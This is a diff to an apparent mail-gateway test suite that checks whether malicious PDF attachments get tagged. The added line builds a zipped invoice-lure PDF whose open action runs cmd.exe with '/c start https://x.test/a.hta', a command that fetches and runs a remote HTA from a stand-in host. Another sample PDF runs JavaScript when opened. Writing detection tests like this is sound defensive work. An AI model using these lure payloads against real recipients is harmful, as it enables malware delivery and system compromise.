@@ -145,12 +145,12 @@ describe('attachment types through the gateway', () => {
   });
 
   test('a zipped PDF that starts cmd.exe is tagged ATTACH_EXPLOIT; one that runs JavaScript as it opens, ATTACH_PDF_SCRIPT', async () => {
-    const launcher = zipArchive([['Rechnung_4471.pdf', pdfDocument({ openAction: { launch: 'cmd.exe' } })]]);
+    const launcher = zipArchive([['Rechnung_4471.pdf', pdfDocument({ openAction: { launch: 'cmd.exe', parameters: '/c start https://x.test/a.hta' } })]]);
     assert.equal(await send('Rechnung 4471', launcher, 'Rechnung_4471.zip'), '250 accepted');
     const entry = await logged('Rechnung 4471');
     assert.equal(entry.action, 'tag');
     assert.deepEqual(entry.symbols.filter((x) => x.name.startsWith('ATTACH_')).map((x) => `${x.name}: ${x.detail}`),
-      ['ATTACH_EXPLOIT: Rechnung_4471.zip > Rechnung_4471.pdf (a PDF that starts a program or file: /Launch cmd.exe)']);
+      ['ATTACH_EXPLOIT: Rechnung_4471.zip > Rechnung_4471.pdf (a PDF that starts a program: /Launch cmd.exe with parameters)']);
     assert.equal(await send('Angebot 12', pdfDocument({ openAction: { javascript: 'this.exportDataObject({cName: "a"})' } }), 'Angebot.pdf'), '250 accepted');
     assert.deepEqual((await logged('Angebot 12')).symbols.filter((x) => x.name.startsWith('ATTACH_')).map((x) => x.name), ['ATTACH_PDF_SCRIPT']);
   });
